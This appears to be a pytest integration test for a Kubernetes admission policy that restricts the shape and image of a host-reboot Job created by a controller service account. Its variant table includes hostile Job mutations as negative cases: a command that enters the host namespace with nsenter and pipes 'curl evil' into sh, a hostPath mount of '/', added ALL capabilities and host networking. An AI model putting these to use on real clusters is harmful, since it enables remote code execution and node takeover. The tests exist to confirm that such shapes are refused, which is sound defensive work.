"""The host-reboot Job's fixed shape, against the real API server (deploy/reboot_job.py): a Job
the controller's service account creates is admitted only as ``providers/hostreboot.py``
builds it and only with an allowed image. The account holds ``create`` of Jobs in the test's
namespace, so RBAC alone would admit every variant; each create is a server-side dry run
(admission runs, nothing is stored, no pod starts)."""

from __future__ import annotations

import contextlib
import copy
import secrets
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any

import pytest

from autoclusters import api
from autoclusters.api import RepairAction
from autoclusters.deploy import CONTROLLER_SERVICE_ACCOUNT
from autoclusters.deploy.reboot_job import job_shape_binding, job_shape_policy
from autoclusters.devcluster.handle import ClusterHandle
from autoclusters.kube import Forbidden, Kube, NotFound, load_kube
from autoclusters.providers.hostreboot import reboot_job
from autoclusters.providers.types import Operation

RBAC = "/apis/rbac.authorization.k8s.io/v1"
ADMISSION = "/apis/admissionregistration.k8s.io/v1"
OWN_IMAGE = "registry.invalid/autoclusters:1"
LISTED_IMAGE = "registry.invalid/reboot:2"


class Scene:
    def __init__(self, cluster: ClusterHandle) -> None:
        self.cluster, self.suffix = cluster, secrets.token_hex(3)
        self.ns, self.policy = f"rjob-{self.suffix}", f"rjob-{self.suffix}"
        self.controller: Kube

    def job(self, image: str = OWN_IMAGE) -> dict[str, Any]:
        op = Operation(id=f"op-{secrets.token_hex(4)}", action=RepairAction.RESET, started=datetime.now(UTC))
        return reboot_job(op, "gpu-node-1", self.ns, image, 600, self.cluster.names)

    def create(self, kube: Kube, job: dict[str, Any]) -> None:
        kube.create(f"/apis/batch/v1/namespaces/{self.ns}/jobs", job, dryRun="All")


@pytest.fixture(scope="module")
def scene(cluster: ClusterHandle) -> Iterator[Scene]:
    s = Scene(cluster)
    role = f"{RBAC}/namespaces/{s.ns}"
    try:
        kubeconfig = cluster.service_account_kubeconfig(s.ns, CONTROLLER_SERVICE_ACCOUNT)
        cluster.apply([
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
             "metadata": {"name": "jobs", "namespace": s.ns},
             "rules": [{"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]}]},
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
             "metadata": {"name": "jobs", "namespace": s.ns},
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "jobs"},
             "subjects": [{"kind": "ServiceAccount", "name": CONTROLLER_SERVICE_ACCOUNT, "namespace": s.ns}]},
            job_shape_policy(s.policy, namespace=s.ns, own_image=OWN_IMAGE, listed=[LISTED_IMAGE],
                             host_command=api.DEFAULT_HOST_REBOOT_ARGV),
            job_shape_binding(s.policy),
        ])
        s.controller = load_kube(kubeconfig)
        _until_enforced(s)
        yield s
    finally:
        for path in (f"{ADMISSION}/validatingadmissionpolicybindings/{s.policy}",
                     f"{ADMISSION}/validatingadmissionpolicies/{s.policy}",
                     f"{role}/rolebindings/jobs", f"{role}/roles/jobs", f"/api/v1/namespaces/{s.ns}"):
            with contextlib.suppress(NotFound):
                cluster.kube.delete(path)


def _until_enforced(s: Scene) -> None:
    """A new policy takes effect once the API server's informer has it: wait until a Job of
    another image is refused (the positive signal), never a fixed sleep."""
    import time

    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            s.create(s.controller, s.job("registry.invalid/other:1"))
        except Forbidden:
            return
        time.sleep(0.2)
    raise AssertionError("the job-shape policy was not enforced within 30 s")


def test_the_shipped_shape_is_admitted_with_the_own_and_a_listed_image(scene: Scene) -> None:
    scene.create(scene.controller, scene.job(OWN_IMAGE))
    scene.create(scene.controller, scene.job(LISTED_IMAGE))


VARIANTS: dict[str, Callable[[dict[str, Any]], None]] = {
    "another-image": lambda j: j["spec"]["template"]["spec"]["containers"][0].update(image="registry.invalid/evil:1"),
    "another-command": lambda j: j["spec"]["template"]["spec"]["containers"][0].update(
        command=["nsenter", "--target", "1", "--mount", "--", "sh", "-c", "curl evil | sh"]),
    "env": lambda j: j["spec"]["template"]["spec"]["containers"][0].update(env=[{"name": "X", "value": "1"}]),
    "a-volume": lambda j: j["spec"]["template"]["spec"].update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
    "host-network": lambda j: j["spec"]["template"]["spec"].update(hostNetwork=True),
    "a-token": lambda j: j["spec"]["template"]["spec"].update(automountServiceAccountToken=True),
    "a-second-container": lambda j: j["spec"]["template"]["spec"]["containers"].append(
        {**copy.deepcopy(j["spec"]["template"]["spec"]["containers"][0]), "name": "second"}),
    "an-init-container": lambda j: j["spec"]["template"]["spec"].update(
        initContainers=[{**copy.deepcopy(j["spec"]["template"]["spec"]["containers"][0]), "name": "init"}]),
    "more-capabilities": lambda j: j["spec"]["template"]["spec"]["containers"][0]["securityContext"].update(
        capabilities={"add": ["ALL"]}),
    "retries": lambda j: j["spec"].update(backoffLimit=3),
    "many-pods": lambda j: j["spec"].update(parallelism=5, completions=5),
}


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_another_shape_from_the_controller_is_refused(scene: Scene, variant: str) -> None:
    job = scene.job()
    VARIANTS[variant](job)
    with pytest.raises(Forbidden, match="the autoclusters controller"):
        scene.create(scene.controller, job)


def test_the_policy_holds_the_controller_only(scene: Scene) -> None:
    """The same variant from the cluster's admin is admitted: the refusal above is the policy's,
    keyed on the controller's identity, not some other check of the API server's."""
    job = scene.job("registry.invalid/evil:1")
    scene.create(scene.cluster.kube, job)
